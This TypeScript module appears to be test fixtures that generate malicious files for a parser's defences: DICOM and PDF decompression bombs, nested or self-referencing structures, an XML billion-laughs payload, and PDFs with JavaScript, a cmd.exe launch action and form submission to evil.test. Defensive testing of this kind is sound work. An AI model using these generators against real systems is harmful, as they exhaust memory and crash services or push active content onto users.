import { deflateRawSync } from 'node:zlib'
import { deflatedZeros } from './archives.ts'

const element = (tag: string, vr: string, value: Buffer): Buffer => {
  const head = Buffer.alloc(8)
  head.writeUInt16LE(Number.parseInt(tag.slice(0, 4), 16), 0)
  head.writeUInt16LE(Number.parseInt(tag.slice(4), 16), 2)
  head.write(vr, 4, 'latin1')
  head.writeUInt16LE(value.length, 6)
  return Buffer.concat([head, value])
}

/** The beginning of a radiograph in a transfer syntax, with any content after its first group. */
export const dicomBefore = (syntax: string, rest: Buffer): Buffer => {
  const uid = Buffer.from(syntax.length % 2 ? `${syntax}\0` : syntax)
  const first = element('00020010', 'UI', uid)
  const length = Buffer.alloc(4)
  length.writeUInt32LE(first.length)
  return Buffer.concat([
    Buffer.alloc(128),
    Buffer.from('DICM'),
    element('00020000', 'UL', length),
    first,
    rest,
  ])
}

export const littleEndian = '1.2.840.10008.1.2.1'
export const deflated = '1.2.840.10008.1.2.1.99'

/** A deflated header, as the standard allows, of `bytes` zeros. */
export const dicomBomb = (bytes: number): Buffer => dicomBefore(deflated, deflatedZeros(bytes))

/** Nested sequences, none of which ends. */
export const dicomOfSequences = (depth: number): Buffer => {
  const open = Buffer.from([
    // (0040,A730) of an undefined length, and an item of one.
    ...[0x40, 0x00, 0x30, 0xa7, 0x53, 0x51, 0, 0, 0xff, 0xff, 0xff, 0xff],
    ...[0xfe, 0xff, 0x00, 0xe0, 0xff, 0xff, 0xff, 0xff],
  ])
  return dicomBefore(littleEndian, Buffer.concat(Array.from({ length: depth }, () => open)))
}

/** A deflated sequence of this many empty items: each takes a hundred times its bytes in memory, and a microsecond. */
export const dicomOfItems = (count: number): Buffer => {
  const items = Buffer.alloc(count * 8, Buffer.from([0xfe, 0xff, 0x00, 0xe0, 0, 0, 0, 0]))
  const open = Buffer.from([0x40, 0x00, 0x30, 0xa7, 0x53, 0x51, 0, 0, 0, 0, 0, 0])
  open.writeUInt32LE(items.length, 8)
  return dicomBefore(deflated, deflateRawSync(Buffer.concat([open, items]), { level: 9 }))
}

/** This many empty private elements with different tags, the maximum for a header of a megabyte. */
export const dicomOfElements = (count: number): Buffer => {
  const elements = Buffer.alloc(count * 8, Buffer.from([0, 0, 0, 0, 0x53, 0x48, 0, 0]))
  for (let index = 0; index < count; index += 1) {
    elements.writeUInt16LE(9 + 2 * (index >> 16), index * 8)
    elements.writeUInt16LE(index & 0xffff, index * 8 + 2)
  }
  return dicomBefore(littleEndian, elements)
}

/** An element that declares a length of four billion bytes. */
export const dicomOfHugeElement = (): Buffer =>
  dicomBefore(
    littleEndian,
    Buffer.from([0x10, 0x00, 0x10, 0x00, 0x55, 0x54, 0, 0, 0xfe, 0xff, 0xff, 0xff, 0x41, 0x42]),
  )

export const pdfWithScript = Buffer.from(
  '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
)

/** Entities that a parser would expand to gigabytes. */
export const billionLaughs = Buffer.from(
  `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY a0 "lol">\n${Array.from(
    { length: 10 },
    (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`,
  ).join('\n')}\n]>\n<order>&a10;</order>\n`,
)

/** A PDF of these objects, the first of which is its catalog, with a table of their offsets. */
const pdfOf = (objects: readonly (string | Buffer)[], trailer = ''): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let at = parts[0]?.length ?? 0
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ])
    offsets.push(at)
    parts.push(part)
    at += part.length
  }
  const lines = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

const catalog = '<</Type/Catalog/Pages 2 0 R>>'

/** A PDF with this many empty pages. */
export const pdfOfPages = (count: number): Buffer => {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ')
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>'
  return pdfOf([
    catalog,
    `<</Type/Pages/Count ${count}/Kids[${kids}]>>`,
    ...Array.from({ length: count }, () => page),
  ])
}

/** A page tree that contains itself. */
export const pdfOfItself = (): Buffer =>
  pdfOf([catalog, '<</Type/Pages/Count 2147483647/Kids[2 0 R 2 0 R]/Parent 2 0 R>>'])

/** A page whose content expands to `bytes` bytes, compressed twice. */
export const pdfBomb = (bytes: number): Buffer => {
  const zlib = (raw: Buffer) => Buffer.concat([Buffer.from([0x78, 0x9c]), raw, Buffer.alloc(4)])
  const compressed = zlib(deflateRawSync(zlib(deflatedZeros(bytes))))
  const drawing = Buffer.concat([
    Buffer.from(`<</Length ${compressed.length}/Filter[/FlateDecode/FlateDecode]>>stream\n`),
    compressed,
    Buffer.from('\nendstream'),
  ])
  return pdfOf([
    catalog,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 612 792]>>',
    drawing,
  ])
}

/** A PDF that can only be opened with a password. */
export const pdfLocked = (): Buffer =>
  pdfOf(
    [catalog, '<</Type/Pages/Count 0/Kids[]>>'],
    `/ID[<00><00>]/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1/O(${'o'.repeat(48)})/U(${'u'.repeat(48)})>>`,
  )

/** Starts a program, posts a form, and contains an attached program. */
export const pdfThatActs = (): Buffer =>
  pdfOf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)/Next<</S/URI/URI(https://evil.test/)/Next<</S/SubmitForm/F(https://evil.test/)>>>>>>/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>/JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL("https://evil.test"))>>]>>>>>>',
    '<</Type/Pages/Count 0/Kids[]>>',
    '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>',
    '<</Length 2>>stream\nMZ\nendstream',
  ])
